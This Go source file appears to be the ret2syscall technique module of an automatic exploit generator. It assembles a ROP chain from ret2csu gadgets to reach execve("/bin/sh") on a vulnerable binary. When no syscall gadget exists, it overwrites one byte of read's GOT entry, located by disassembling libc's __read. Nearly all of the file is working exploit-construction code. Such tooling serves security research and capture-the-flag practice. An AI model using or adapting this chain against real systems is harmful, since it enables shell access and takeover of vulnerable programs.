package technique

import (
	"fmt"

	"github.com/LJP-TW/CRAXplusplus/internal/disasm"
	"github.com/LJP-TW/CRAXplusplus/internal/expr"
)

// binShWidth is the byte count of the final read: "/bin/sh" NUL-padded so
// the read's return value lands the execve syscall number in rax.
const binShWidth = 59

// Ret2syscall chains four ret2csu calls into execve("/bin/sh", 0, 0),
// driving the syscall number through syscall return values:
//
//	read(0, elf.got['read'], 1)   rax becomes 1
//	syscall<1>(1, 0, 0)           sys_write, rax becomes 0
//	syscall<0>(0, elf.bss(), 59)  reads "/bin/sh", rax becomes 59
//	syscall<59>(elf.bss(), 0, 0)  sys_execve
//
// Each call returns into a syscall gadget. When the target has no
// "syscall ; ret" of its own and is not full RELRO, the one-byte read over
// read's GOT slot redirects it to the syscall instruction inside libc's
// __read, and the chain returns into read instead.
type Ret2syscall struct {
	env           *Env
	syscallGadget expr.Expr
}

// NewRet2syscall resolves the syscall gadget or arranges the GOT fallback.
func NewRet2syscall(env *Env) (*Ret2syscall, error) {
	t := &Ret2syscall{env: env}

	const gadgetAsm = "syscall ; ret"
	if addr := env.ELF.Gadget(gadgetAsm); addr != 0 {
		env.Registry.RegisterSymbol(ToVarName(gadgetAsm), addr)
		e, err := expr.NewBaseOffset(env.Registry, expr.BaseVar, ToVarName(gadgetAsm))
		if err != nil {
			return nil, err
		}
		t.syscallGadget = e
	} else if !env.ELF.Checksec.HasFullRELRO {
		if _, ok := env.ELF.Symbol("read"); ok {
			e, err := expr.NewBaseOffset(env.Registry, expr.BaseSym, "read")
			if err != nil {
				return nil, err
			}
			t.syscallGadget = e
		}
	}

	return t, nil
}

func (t *Ret2syscall) Name() string { return "ret2syscall" }

func (t *Ret2syscall) CheckRequirements() bool {
	return t.syscallGadget != nil
}

func (t *Ret2syscall) RopSubchains() ([]expr.RopSubchain, error) {
	csuT, ok := t.env.Lookup("ret2csu")
	if !ok {
		return nil, fmt.Errorf("ret2syscall requires ret2csu")
	}
	csu := csuT.(*Ret2csu)

	gotRead, err := expr.NewBaseOffset(t.env.Registry, expr.BaseGot, "read")
	if err != nil {
		return nil, err
	}
	bss, err := expr.NewBaseOffset(t.env.Registry, expr.BaseBss, "")
	if err != nil {
		return nil, err
	}

	// read(0, elf.got['read'], 1), setting rax to 1.
	part1, err := csu.RopSubchainWithArgs(t.syscallGadget,
		expr.NewConstant(0), gotRead, expr.NewConstant(1))
	if err != nil {
		return nil, err
	}

	// syscall<1>(1, 0, 0), setting rax to 0.
	part2, err := csu.RopSubchainWithArgs(t.syscallGadget,
		expr.NewConstant(1), expr.NewConstant(0), expr.NewConstant(0))
	if err != nil {
		return nil, err
	}

	// syscall<0>(0, elf.bss(), 59), reading "/bin/sh" to the bss.
	part3, err := csu.RopSubchainWithArgs(t.syscallGadget,
		expr.NewConstant(0), bss, expr.NewConstant(binShWidth))
	if err != nil {
		return nil, err
	}

	// syscall<59>("/bin/sh", 0, 0), i.e. sys_execve.
	part4, err := csu.RopSubchainWithArgs(t.syscallGadget,
		bss, expr.NewConstant(0), expr.NewConstant(0))
	if err != nil {
		return nil, err
	}

	lsb, err := t.lsbOfReadSyscall()
	if err != nil {
		return nil, err
	}

	chain1 := make(expr.RopSubchain, 0,
		1+len(part1)+len(part2)+len(part3)+len(part4))
	chain1 = append(chain1, expr.NewConstant(0)) // saved RBP slot
	chain1 = append(chain1, part1...)
	chain1 = append(chain1, part2...)
	chain1 = append(chain1, part3...)
	chain1 = append(chain1, part4...)

	chain2 := expr.RopSubchain{expr.NewByteVector([]byte{lsb})}
	chain3 := expr.RopSubchain{
		expr.NewByteVectorString("/bin/sh").Pad(binShWidth, 0),
	}

	return []expr.RopSubchain{chain1, chain2, chain3}, nil
}

func (t *Ret2syscall) ExtraRopSubchain() expr.RopSubchain { return nil }

func (t *Ret2syscall) AuxiliaryFunctions() string { return "" }

// lsbOfReadSyscall returns the low address byte of the first syscall
// instruction inside libc's __read. The one-byte GOT overwrite is only
// sound when the remaining address bytes already match, which holds for
// every glibc where the instruction sits in the same 256-byte window as the
// function entry.
func (t *Ret2syscall) lsbOfReadSyscall() (byte, error) {
	if t.env.Libc == nil {
		return 0, fmt.Errorf("libc image required for the GOT overwrite")
	}
	fn, ok := t.env.Libc.Function("__read")
	if !ok {
		fn, ok = t.env.Libc.Function("read")
	}
	if !ok {
		return 0, fmt.Errorf("__read not found in %s", t.env.Libc.Path)
	}

	code, err := t.env.Libc.ReadAt(fn.Address, int(fn.Size))
	if err != nil {
		return 0, err
	}
	for _, insn := range disasm.Decode(code, fn.Address) {
		if insn.Mnemonic != "syscall" {
			continue
		}
		if insn.Address&0xff00 != fn.Address&0xff00 {
			return 0, fmt.Errorf(
				"syscall at %#x crosses the byte window of __read at %#x",
				insn.Address, fn.Address)
		}
		return byte(insn.Address & 0xff), nil
	}
	return 0, fmt.Errorf("no syscall instruction in __read")
}
